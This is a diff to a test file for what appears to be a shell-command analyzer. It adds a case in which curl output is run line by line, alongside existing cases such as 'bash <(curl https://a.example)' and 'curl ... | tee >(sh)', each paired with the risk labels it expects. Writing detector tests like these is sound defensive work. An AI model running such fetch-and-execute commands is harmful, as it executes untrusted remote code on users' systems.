@@ -18,6 +18,11 @@ describe('text that becomes commands', () => {
       'bash <(curl https://a.example)',
       ['net.request', 'code.eval downloaded', 'opaque /dev/fd/63 downloaded outside-project'],
     ],
+    [
+      'downloaded line by line',
+      'curl https://a.example | while read -r l; do $l; done',
+      ['net.request', 'exec ?$l dynamic', 'code.eval downloaded'],
+    ],
     ['copied into a shell', 'curl https://a.example | tee >(sh)', ['net.request', 'code.eval downloaded']],
     ['whatever a program prints', 'ls | sh', ['code.eval dynamic']],
     ['of another language', "python -c 'x'", ['code.eval']],
